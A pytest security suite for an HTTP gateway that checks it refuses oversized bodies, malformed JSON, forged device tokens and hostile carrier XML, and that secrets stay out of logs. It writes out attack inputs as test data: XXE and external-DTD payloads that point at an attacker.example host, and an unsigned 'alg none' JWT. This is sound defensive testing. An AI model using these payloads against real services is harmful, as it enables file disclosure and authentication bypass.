"""Adversarial input (issue 7, "Security"): what a hostile client or carrier can send.

- Bodies: the size limit holds whatever ``Content-Length`` says (or if there is none, or it
  lies), deep nesting and huge key counts are refused quickly, unknown fields, control
  characters, lone surrogates and non-finite or oversized numbers are 422s, never 500s.
- Credentials: one summary of the device-token refusals (tests/api/test_device_auth.py has
  the rest).
- The carrier: XML with a DTD or entities is refused without expansion or resolution; the
  client verifies TLS.
- Secrets never reach a log line, nor the settings' ``repr``.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import logging
import socket
import ssl
import threading
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import httpx
import jwt
import pytest
import uvicorn
from starlette.applications import Starlette
from starlette.datastructures import Secret
from starlette.types import Message

from gateway.api.auth import DeviceTokens
from gateway.api.problems import MAX_ERRORS
from gateway.app import create_app
from gateway.bandwidth.client import BandwidthClient
from gateway.metrics import Metrics
from gateway.observability import JsonFormatter
from gateway.settings import Settings
from gateway.transport import AiohttpTransport
from tests.harness import (
    ADMIN_KEY,
    JWT_SECRET,
    WHITE_HOUSE,
    gateway,
    gateway_settings,
    new_simulator,
    report,
)

T = TypeVar("T")

FIXTURES = Path(__file__).resolve().parent / "bandwidth" / "fixtures"
LIMIT = 64 * 1024  # Settings.max_body_bytes

ADDRESS = {
    "houseNumber": "1600",
    "streetName": "PENNSYLVANIA",
    "streetSuffix": "AVE",
    "postDirectional": "NW",
    "city": "WASHINGTON",
    "stateCode": "DC",
    "zip": "20500",
}

#: Every write route, with a body it would accept (as far as its shape goes).
WRITES: dict[str, tuple[str, str, dict[str, Any]]] = {
    "createEndpoint": (
        "POST",
        "/v1/endpoints",
        {
            "alternateEndUserId": "alice",
            "callerName": "ALICE SMITH",
            "telephoneNumber": "+12025550143",
            "locationId": "loc1",
        },
    ),
    "updateEndpoint": (
        "PUT",
        "/v1/endpoints/ep1",
        {
            "alternateEndUserId": "alice",
            "callerName": "ALICE SMITH",
            "telephoneNumber": "+12025550143",
            "locationId": "loc1",
        },
    ),
    "createLocation": ("POST", "/v1/locations", {"address": ADDRESS, "description": "HQ"}),
    "updateLocation": ("PUT", "/v1/locations/loc1", {"address": ADDRESS, "description": "HQ"}),
    "createNotificationRecipient": (
        "POST",
        "/v1/notification-recipients",
        {"emailAddress": "ops@example.com", "description": "ops"},
    ),
    "reportLocation": ("POST", "/v1/location-reports", report("alice", ADDRESS)),
    "validateAddress": ("POST", "/v1/addresses/validate", {"address": ADDRESS}),
}

#: A string field of each write route's body, to carry hostile text.
TEXT_FIELD = {
    "createEndpoint": "callerName",
    "updateEndpoint": "callerName",
    "createLocation": "description",
    "updateLocation": "description",
    "createNotificationRecipient": "description",
    "reportLocation": "callerName",
    "validateAddress": "address",
}

#: A number field of the routes that take numbers, and where it goes in the body.
NUMBER_FIELD: dict[str, Callable[[str], str]] = {
    "createLocation": lambda n: json.dumps({"address": ADDRESS})[:-1] + f', "latitude": {n}}}',
    "updateLocation": lambda n: json.dumps({"address": ADDRESS})[:-1] + f', "longitude": {n}}}',
    "reportLocation": lambda n: (
        json.dumps(report("alice", None))[:-1] + f', "geo": {{"latitude": {n}, "longitude": 1}}}}'
    ),
}


def run(coro: Awaitable[T]) -> T:
    async def main() -> T:
        return await coro

    return asyncio.run(main())


def assert_problem(response: httpx.Response, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body: dict[str, Any] = response.json()
    assert body["status"] == status
    return body


def fields_of(body: dict[str, Any]) -> set[str]:
    return {e["field"] for e in body.get("errors", [])}


async def send(
    method: str, path: str, content: bytes | str, *, token: str = ADMIN_KEY
) -> httpx.Response:
    """One request with a raw JSON body through an in-process gateway."""
    async with gateway() as g:
        return await g.http.request(
            method,
            path,
            content=content,
            headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
        )


# -- raw ASGI: bodies whose framing a client library would not send ---------------------------


class RawAnswer:
    def __init__(self, status: int, body: bytes, chunks_read: int) -> None:
        self.status = status
        self.body = body
        self.chunks_read = chunks_read

    def json(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads(self.body)
        return found


async def raw_request(
    app: Starlette, method: str, path: str, headers: dict[str, str], chunks: Iterator[bytes]
) -> RawAnswer:
    """``chunks`` sent as they come (``more_body`` until the last); records how many the app
    read before it answered."""
    pending = list(chunks)
    read = 0
    answered = asyncio.Event()
    status = 0
    body = bytearray()

    async def receive() -> Message:
        nonlocal read
        if read < len(pending):
            read += 1
            return {
                "type": "http.request",
                "body": pending[read - 1],
                "more_body": read < len(pending),
            }
        await answered.wait()
        return {"type": "http.disconnect"}

    async def send_(message: Message) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]
        elif message["type"] == "http.response.body":
            body.extend(message.get("body", b""))
            if not message.get("more_body", False):
                answered.set()

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [
            (b"host", b"gateway"),
            (b"authorization", f"Bearer {ADMIN_KEY}".encode()),
            *((k.lower().encode("latin-1"), v.encode("latin-1")) for k, v in headers.items()),
        ],
        "client": ("127.0.0.1", 50000),
        "server": ("gateway", 80),
    }
    await app(scope, receive, send_)
    return RawAnswer(status, bytes(body), read)


def raw(method: str, path: str, headers: dict[str, str], chunks: Iterator[bytes]) -> RawAnswer:
    async def main() -> RawAnswer:
        async with gateway() as g:
            return await raw_request(g.app, method, path, headers, chunks)

    return run(main())


JSON = {"content-type": "application/json"}


def _chunks(total: int, size: int = 16 * 1024) -> Iterator[bytes]:
    yield b'{"description": "'
    for _ in range(total // size):
        yield b"x" * size
    yield b'"}'


@pytest.mark.parametrize("route", sorted(WRITES))
def test_a_declared_length_past_the_limit_is_413_before_reading(route: str) -> None:
    method, path, _ = WRITES[route]
    answer = raw(method, path, {**JSON, "content-length": str(10**9)}, iter([b"{"]))
    assert answer.status == 413
    assert answer.json()["type"] == "/problems/payload-too-large"
    assert answer.chunks_read == 0


@pytest.mark.parametrize("route", sorted(WRITES))
def test_a_chunked_body_past_the_limit_is_413_without_reading_it_all(route: str) -> None:
    method, path, _ = WRITES[route]
    chunks = list(_chunks(100 * LIMIT))  # 6.4 MB, no Content-Length
    answer = raw(method, path, JSON, iter(chunks))
    assert answer.status == 413
    assert answer.chunks_read <= LIMIT // (16 * 1024) + 2 < len(chunks)


def test_a_content_length_that_lies_is_not_trusted() -> None:
    answer = raw("POST", "/v1/locations", {**JSON, "content-length": "10"}, _chunks(4 * LIMIT))
    assert answer.status == 413


@contextlib.contextmanager
def served(app: Starlette) -> Iterator[int]:
    """``app`` behind uvicorn on a free loopback port (its lifespan run by the server)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(app, host="127.0.0.1", port=port, http="h11", ws="none", log_level="warning")
    )
    thread = threading.Thread(target=server.run, name="security-gateway", daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "the gateway did not start"
        time.sleep(0.01)
    try:
        yield port
    finally:
        server.should_exit = True
        thread.join(timeout=30)


def test_over_a_real_socket_the_limit_holds_for_chunked_and_declared_bodies() -> None:
    settings = gateway_settings()
    app = create_app(settings, sandbox_app=new_simulator(settings), metrics=Metrics())

    def endless() -> Iterator[bytes]:
        yield b'{"description": "'
        for _ in range(256):  # 4 MB
            yield b"x" * (16 * 1024)

    with served(app) as port:
        headers = {"Authorization": f"Bearer {ADMIN_KEY}", **JSON}
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", headers=headers) as http:
            chunked = http.post("/v1/locations", content=endless())
            assert chunked.status_code == 413, chunked.text
            assert chunked.request.headers["transfer-encoding"] == "chunked"
            assert "content-length" not in chunked.request.headers
        # A declared length past the limit is answered before the body comes.
        with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
            conn.sendall(
                b"POST /v1/locations HTTP/1.1\r\nHost: gateway\r\n"
                + f"Authorization: Bearer {ADMIN_KEY}\r\n".encode()
                + b"Content-Type: application/json\r\nContent-Length: 1000000000\r\n\r\n{"
            )
            head = conn.recv(4096)
        assert head.startswith(b"HTTP/1.1 413 "), head


@pytest.mark.parametrize(
    "declared",
    ["abc", "-1", "1e3", "0x10", "1 0", "\u00b2", "\u00b9\u00b2"],
    ids=["letters", "negative", "exponent", "hex", "space", "superscript", "superscripts"],
)
def test_a_content_length_that_is_not_a_number_is_400(declared: str) -> None:
    # Regression: "²".isdigit() is true, and int("²") raised ValueError: a 500.
    answer = raw("POST", "/v1/locations", {**JSON, "content-length": declared}, iter([b"{}"]))
    assert answer.status == 400
    assert answer.json()["detail"] == "Content-Length is not a number."


def test_a_content_length_of_thousands_of_digits_is_413() -> None:
    # Regression: int() refuses more than 4300 digits: ValueError, a 500.
    for declared in ("9" * 5000, "0" * 5000 + "1"):
        headers = {**JSON, "content-length": declared}
        answer = raw("POST", "/v1/locations", headers, iter([b"{}"]))
        assert answer.status == (413 if declared.startswith("9") else 422), answer.body


# -- JSON shapes -------------------------------------------------------------------------------


DEEP = {
    "arrays": "[" * 10_000 + "]" * 10_000,
    "objects": '{"a":' * 10_000 + "1" + "}" * 10_000,
    "in a field": '{"address": ' + "[" * 10_000 + "]" * 10_000 + "}",
}


@pytest.mark.parametrize("route", sorted(WRITES))
@pytest.mark.parametrize("shape", sorted(DEEP))
def test_deep_nesting_is_422_not_500(route: str, shape: str) -> None:
    method, path, _ = WRITES[route]
    body = assert_problem(run(send(method, path, DEEP[shape])), 422)
    assert body["errors"] == [{"field": "body", "message": "nested too deeply"}]


@pytest.mark.parametrize("route", sorted(WRITES))
def test_a_member_named_twice_is_422_not_the_last_one_kept(route: str) -> None:
    """Regression: ``{"address": A, "address": B}`` was read as B, silently; whatever else
    read the body on its way (a proxy, a log, the device's own record) could see A."""
    method, path, fields = WRITES[route]
    name = next(iter(fields))
    content = json.dumps(fields)[:-1] + f", {json.dumps(name)}: {json.dumps(fields[name])}}}"
    body = assert_problem(run(send(method, path, content)), 422)
    message = f'the member "{name}" appears more than once in one object'
    assert body["errors"] == [{"field": "body", "message": message}]
    assert body["detail"] == "The body names a member more than once."


def test_a_member_named_twice_deep_inside_is_422_and_a_long_name_is_cut() -> None:
    name = "n" * 5000
    inner = f'{{"{name}": 1, "{name}": 2}}'
    content = json.dumps({"address": ADDRESS, "description": "HQ"})[:-1] + f', "x": {inner}}}'
    body = assert_problem(run(send("POST", "/v1/locations", content)), 422)
    message = f'the member "{"n" * 64}..." appears more than once in one object'
    assert body["errors"] == [{"field": "body", "message": message}]


def test_utf16_and_utf8_with_a_bom_bodies_are_still_read() -> None:
    fields = WRITES["validateAddress"][2]
    for encoded in (json.dumps(fields).encode("utf-16"), json.dumps(fields).encode("utf-8-sig")):
        answer = run(send("POST", "/v1/addresses/validate", encoded))
        assert answer.status_code == 200, answer.text


def test_fifty_thousand_keys_are_413_at_once() -> None:
    content = "{" + ",".join(f'"k{i}": 0' for i in range(50_000)) + "}"
    assert len(content) > LIMIT  # refused on its declared size, before a byte is parsed
    for route in sorted(WRITES):
        method, path, _ = WRITES[route]
        assert_problem(run(send(method, path, content)), 413)


@pytest.mark.parametrize("route", sorted(WRITES))
def test_as_many_keys_as_fit_are_422_with_a_short_answer(route: str) -> None:
    """Regression: 7000 unknown keys in 62 KB were answered with 7000 errors (300 KB)."""
    method, path, _ = WRITES[route]
    content = "{" + ",".join(f'"{i}":0' for i in range(7000)) + "}"
    assert len(content) <= LIMIT
    response = run(send(method, path, content))
    body = assert_problem(response, 422)
    assert len(body["errors"]) == MAX_ERRORS
    assert body["errors"][0] == {"field": "0", "message": "unknown field"}
    assert body["errorsOmitted"] >= 7000 - MAX_ERRORS
    assert len(response.content) < 16 * 1024


@pytest.mark.parametrize("route", sorted(WRITES))
def test_unknown_fields_are_refused_on_every_write_route(route: str) -> None:
    method, path, good = WRITES[route]
    body = assert_problem(run(send(method, path, json.dumps({**good, "isAdmin": True}))), 422)
    assert fields_of(body) == {"isAdmin"}


@pytest.mark.parametrize(
    ("route", "field"),
    [
        ("createLocation", "address.floor"),
        ("updateLocation", "address.floor"),
        ("reportLocation", "address.floor"),
        ("validateAddress", "address.floor"),
        ("reportLocation", "geo.altitude"),
    ],
)
def test_unknown_nested_fields_are_refused(route: str, field: str) -> None:
    method, path, good = WRITES[route]
    outer, inner = field.split(".")
    nested = {"latitude": 38.9, "longitude": -77.0} if outer == "geo" else dict(ADDRESS)
    payload = {**good, outer: {**nested, inner: 3}}
    body = assert_problem(run(send(method, path, json.dumps(payload))), 422)
    assert field in fields_of(body)


HOSTILE_TEXT = {
    "NUL": "\\u0000",
    "lone high surrogate": "\\ud800",
    "lone low surrogate": "\\udfff",
    "reversed pair": "\\udc00\\ud800",
    "noncharacter": "\\uffff",
    "escape": "\\u001b[31m",
}


@pytest.mark.parametrize("route", sorted(WRITES))
@pytest.mark.parametrize("text", sorted(HOSTILE_TEXT))
def test_control_characters_and_lone_surrogates_are_422(route: str, text: str) -> None:
    method, path, good = WRITES[route]
    field = TEXT_FIELD[route]
    # Spliced into the JSON text as an escape: json.dumps would not write a lone surrogate.
    content = json.dumps({**good, field: "SMITH @@"}).replace("@@", HOSTILE_TEXT[text])
    body = assert_problem(run(send(method, path, content)), 422)
    assert field in fields_of(body), body


@pytest.mark.parametrize("route", ["reportLocation", "createLocation", "validateAddress"])
def test_a_lone_surrogate_in_a_key_is_422_and_the_answer_is_json(route: str) -> None:
    method, path, _ = WRITES[route]
    response = run(send(method, path, '{"\\ud800": 1}'))
    body = assert_problem(response, 422)
    assert "\ud800" in fields_of(body)
    assert response.content.isascii()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"description": "\xff"}', "not UTF-8 text"),
        (b'{"description": "\xed\xa0\x80"}', None),  # a surrogate, UTF-8 encoded
        (b"", "Expecting value"),
    ],
    ids=["invalid-utf8", "encoded-surrogate", "empty"],
)
def test_bytes_that_are_not_json_text_are_422(content: bytes, message: str | None) -> None:
    body = assert_problem(run(send("POST", "/v1/locations", content)), 422)
    if message is not None:
        assert body["errors"] == [{"field": "body", "message": message}]


NUMBERS = {
    "1e400": "1e400",
    "-1e400": "-1e400",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "10**400": "1" + "0" * 400,
}


def _number_cases() -> Iterator[Any]:
    for route in sorted(NUMBER_FIELD):
        for number in sorted(NUMBERS):
            marks: list[Any] = []
            yield pytest.param(route, number, marks=marks, id=f"{route}-{number}")


@pytest.mark.parametrize(("route", "number"), list(_number_cases()))
def test_non_finite_and_huge_numbers_are_422(route: str, number: str) -> None:
    method, path, _ = WRITES[route]
    body = assert_problem(run(send(method, path, NUMBER_FIELD[route](NUMBERS[number]))), 422)
    assert body["errors"]


def test_a_big_integer_where_a_float_goes_is_422() -> None:
    # Regression: float(10**400) raised OverflowError in the body reader: a 500. (Every
    # problem of the body is named, as a report's are.)
    content = json.dumps({"address": ADDRESS})[:-1] + ', "latitude": 1' + "0" * 400 + "}"
    body = assert_problem(run(send("POST", "/v1/locations", content)), 422)
    assert body["errors"] == [
        {"field": "latitude", "message": "expected a number from -90 to 90"},
        {"field": "longitude", "message": "required with the other coordinate"},
    ]


@pytest.mark.parametrize(
    ("literal", "message"),
    [
        ("NaN", "NaN is not a JSON number"),
        ("-Infinity", "-Infinity is not a JSON number"),
        ("9" * 5000, "a number has too many digits"),
    ],
)
def test_numbers_json_has_not_are_named_as_such(literal: str, message: str) -> None:
    # Regression: every ValueError that was not a syntax error was called "nested too deeply".
    content = '{"description": ' + literal + "}"
    body = assert_problem(run(send("POST", "/v1/locations", content)), 422)
    assert body["errors"] == [{"field": "body", "message": message}]


# -- credentials: one summary (tests/api/test_device_auth.py has the rest) --------------------


def test_device_tokens_that_must_not_pass() -> None:
    now = int(time.time())
    good = {"sub": "alice", "iat": now, "exp": now + 300}
    header = base64.urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').rstrip(b"=").decode()
    claims = base64.urlsafe_b64encode(json.dumps(good).encode()).rstrip(b"=").decode()
    refused = {
        "alg none": f"{header}.{claims}.",
        "wrong key": jwt.encode(good, "another-secret-0123456789abcdef0123", algorithm="HS256"),
        "expired": jwt.encode({**good, "exp": now - 60}, JWT_SECRET, algorithm="HS256"),
        "no sub": jwt.encode({"iat": now, "exp": now + 300}, JWT_SECRET, algorithm="HS256"),
        "no exp": jwt.encode({"sub": "alice", "iat": now}, JWT_SECRET, algorithm="HS256"),
    }
    bob = DeviceTokens(secret=JWT_SECRET).mint("bob", 300)

    async def main() -> None:
        async with gateway() as g:
            before = g.last_seq()
            for why, token in refused.items():
                response = await g.report(
                    report("alice", WHITE_HOUSE), Authorization=f"Bearer {token}"
                )
                assert response.status_code == 401, why
                assert response.headers["www-authenticate"].startswith("Bearer")
            other = await g.report(report("alice", WHITE_HOUSE), Authorization=f"Bearer {bob}")
            assert_problem(other, 403)
            read = await g.http.get(
                "/v1/devices/alice/location", headers={"Authorization": f"Bearer {bob}"}
            )
            assert_problem(read, 403)
            admin = await g.http.get("/v1/endpoints", headers={"Authorization": f"Bearer {bob}"})
            assert_problem(admin, 403)
            assert g.calls(before) == []  # nothing reached the carrier

    run(main())


# -- the carrier's XML -------------------------------------------------------------------------


def _hostile_upstream(body: bytes, seen: list[httpx.Request]) -> Starlette:
    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, content=body, headers={"Content-Type": "application/xml"})

    settings = gateway_settings(bandwidth_base_url="https://carrier.example/api")
    return create_app(settings, upstream_transport=httpx.MockTransport(handler), metrics=Metrics())


@pytest.mark.parametrize(
    "body",
    [
        (FIXTURES / "billion_laughs.xml").read_bytes(),
        (FIXTURES / "external_entity.xml").read_bytes(),
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "https://attacker.example/x">]>'
        b"<Endpoint><callerName>&e;</callerName></Endpoint>",
        b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "https://attacker.example/x.dtd">'
        b"<Endpoint><callerName>A</callerName></Endpoint>",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "https://attacker.example/p">'
        b" %p;]><Endpoint/>",
    ],
    ids=["billion-laughs", "external-file", "external-url", "external-dtd", "parameter-entity"],
)
def test_xml_with_a_dtd_or_entities_is_a_502_without_expansion(body: bytes) -> None:
    seen: list[httpx.Request] = []
    app = _hostile_upstream(body, seen)

    async def main() -> httpx.Response:
        async with app.router.lifespan_context(app):
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://gateway") as http:
                return await http.get(
                    "/v1/endpoints/ep1", headers={"Authorization": f"Bearer {ADMIN_KEY}"}
                )

    response = run(main())
    problem = assert_problem(response, 502)
    assert problem["type"] == "/problems/upstream-error"
    assert "lol" not in response.text and "root:" not in response.text
    assert [r.url.host for r in seen] == ["carrier.example"]  # no entity was fetched


# -- TLS to the carrier ------------------------------------------------------------------------


def test_the_carrier_client_verifies_tls_by_default() -> None:
    # Plain http off loopback is refused: tests/bandwidth/test_client.py::test_from_settings.
    settings = Settings(
        bandwidth_base_url="https://dashboard.bandwidth.example/api",
        bandwidth_account_id="9900000",
        bandwidth_username="user",
        bandwidth_password=Secret("password-0123456789"),
    )
    client = BandwidthClient.from_settings(settings)
    try:
        http = client._http
        transport = http._transport
        assert isinstance(transport, AiohttpTransport)
        context = transport.ssl_context
        assert context.verify_mode == ssl.CERT_REQUIRED
        assert context.check_hostname
        assert context.minimum_version >= ssl.TLSVersion.TLSv1_2
        assert not http.follow_redirects  # Basic credentials never follow a redirect
    finally:
        run(client.aclose())


# -- secrets never logged ----------------------------------------------------------------------

UPSTREAM_USER = "dlr-upstream-user"
UPSTREAM_PASSWORD = "upstream-password-5f1e9c"
WRONG_PASSWORD = "wrong-upstream-password-7a2d"
FAKE_PASSWORD = "hunter2-fake-password-0b4e"


class _Everything(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def every_log_record() -> Iterator[list[logging.LogRecord]]:
    """Every record any logger emits at DEBUG and up, whatever its level or propagation."""
    handler = _Everything()
    root = logging.getLogger()
    loggers = [root] + [
        logger
        for logger in logging.root.manager.loggerDict.values()
        if isinstance(logger, logging.Logger)
    ]
    saved = [(logger, logger.level, logger.disabled) for logger in loggers]
    extra_handlers = [logger for logger in loggers if logger is not root and not logger.propagate]
    for logger in loggers:
        logger.setLevel(logging.DEBUG)
        logger.disabled = False
    root.addHandler(handler)
    for logger in extra_handlers:
        logger.addHandler(handler)
    try:
        yield handler.records
    finally:
        root.removeHandler(handler)
        for logger in extra_handlers:
            logger.removeHandler(handler)
        for logger, level, disabled in saved:
            logger.setLevel(level)
            logger.disabled = disabled


def _text_of(record: logging.LogRecord) -> str:
    parts = [
        repr(record.msg),
        repr(record.args),
        repr(vars(record)),
        JsonFormatter().format(record),
    ]
    with contextlib.suppress(TypeError, ValueError):
        parts.append(record.getMessage())
    if record.exc_info:
        parts.append(logging.Formatter().formatException(record.exc_info))
    if record.stack_info:
        parts.append(record.stack_info)
    return "\n".join(parts)


def _basic(user: str, password: str) -> str:
    return base64.b64encode(f"{user}:{password}".encode()).decode()


def test_secrets_never_reach_the_logs(every_log_record: list[logging.LogRecord]) -> None:
    settings = gateway_settings(
        bandwidth_username=UPSTREAM_USER, bandwidth_password=Secret(UPSTREAM_PASSWORD)
    )
    # A second gateway whose carrier knows another password: every call is an upstream 401.
    refused_settings = gateway_settings(
        bandwidth_username=UPSTREAM_USER, bandwidth_password=Secret(WRONG_PASSWORD)
    )
    refused_sim = new_simulator(settings)  # expects UPSTREAM_PASSWORD
    tokens = DeviceTokens(secret=JWT_SECRET)
    alice = tokens.mint("alice", 300)
    bad_tokens = [
        jwt.encode(
            {"sub": "alice", "exp": int(time.time()) + 60}, "not-the-secret-0123456789abcdef0123"
        ),
        alice[:-4] + "AAAA",
        "not.a.jwt",
        "garbage-token-3c9d",
    ]
    used_tokens = [alice, *bad_tokens]

    async def main() -> None:
        async with gateway(settings) as g:
            admin = {"Authorization": f"Bearer {ADMIN_KEY}"}
            device = {"Authorization": f"Bearer {alice}"}
            assert (await g.report(report("alice", WHITE_HOUSE), **device)).status_code == 200
            assert (await g.http.get("/v1/devices/alice/location", headers=device)).is_success
            assert (await g.report(report("bob", WHITE_HOUSE), **device)).status_code == 403
            validate = {"address": WHITE_HOUSE}
            assert (
                await g.http.post("/v1/addresses/validate", json=validate, headers=device)
            ).is_success
            assert (await g.http.get("/v1/endpoints", headers=admin)).is_success
            assert (await g.http.get("/v1/endpoints/nothere", headers=admin)).status_code == 404
            leaky = {"address": ADDRESS, "password": FAKE_PASSWORD, "description": FAKE_PASSWORD}
            bad = await g.http.post("/v1/locations", json=leaky, headers=admin)
            assert bad.status_code == 422
            bad = await g.report(
                report("alice", WHITE_HOUSE, caller=FAKE_PASSWORD + "\x00"), **device
            )
            assert bad.status_code == 422
            broken = await g.http.post(
                "/v1/locations",
                content=f'{{"password": "{FAKE_PASSWORD}"',
                headers={**admin, "Content-Type": "application/json"},
            )
            assert broken.status_code == 422
            for token in bad_tokens:
                response = await g.http.get(
                    "/v1/endpoints", headers={"Authorization": f"Bearer {token}"}
                )
                assert response.status_code == 401
                response = await g.report(
                    report("alice", WHITE_HOUSE), Authorization=f"Bearer {token}"
                )
                assert response.status_code == 401
            assert "settings" not in repr(g.app.state.services) or (
                ADMIN_KEY not in repr(g.app.state.services)
                and UPSTREAM_PASSWORD not in repr(g.app.state.services)
            )
        async with gateway(refused_settings, sim_app=refused_sim) as g:
            response = await g.http.get("/v1/endpoints")
            assert assert_problem(response, 502)["type"] == "/problems/upstream-auth"
            await g.http.get("/readyz")

    run(main())

    secrets = {
        "admin key": ADMIN_KEY,
        "device JWT secret": JWT_SECRET,
        "upstream password": UPSTREAM_PASSWORD,
        "refused upstream password": WRONG_PASSWORD,
        "Basic credentials": _basic(UPSTREAM_USER, UPSTREAM_PASSWORD),
        "refused Basic credentials": _basic(UPSTREAM_USER, WRONG_PASSWORD),
        "password in a body": FAKE_PASSWORD,
        **{f"token {i}": token for i, token in enumerate(used_tokens)},
    }
    records = every_log_record
    assert any(r.name == "gateway.api" and r.levelno == logging.WARNING for r in records)
    assert any(r.name.startswith("httpx") or r.name.startswith("httpcore") for r in records)
    for record in records:
        text = _text_of(record)
        for what, secret in secrets.items():
            assert secret not in text, f"{what} in a {record.name} log record: {text[:500]}"


def _every_secret_set() -> Settings:
    return Settings(
        bandwidth_base_url="https://dashboard.bandwidth.example/api",
        bandwidth_account_id="9900000",
        bandwidth_username=UPSTREAM_USER,
        bandwidth_password=Secret(UPSTREAM_PASSWORD),
        admin_keys=(Secret(ADMIN_KEY), Secret("second-admin-key-0123456789")),
        device_jwt_secret=Secret(JWT_SECRET),
        device_jwt_private_key=Secret("-----BEGIN PRIVATE KEY-----\nc2VjcmV0\n"),
    )


def test_the_settings_repr_shows_no_secret() -> None:
    settings = _every_secret_set()
    for text in (repr(settings), str(settings)):
        for secret in (UPSTREAM_PASSWORD, ADMIN_KEY, "second-admin-key", JWT_SECRET, "c2VjcmV0"):
            assert secret not in text


def test_the_settings_repr_shows_no_geocoder_api_key() -> None:
    settings = Settings(geocoder="opencage", geocoder_options={"api_key": "geo-api-key-9d8c7b"})
    assert "geo-api-key-9d8c7b" not in repr(settings)
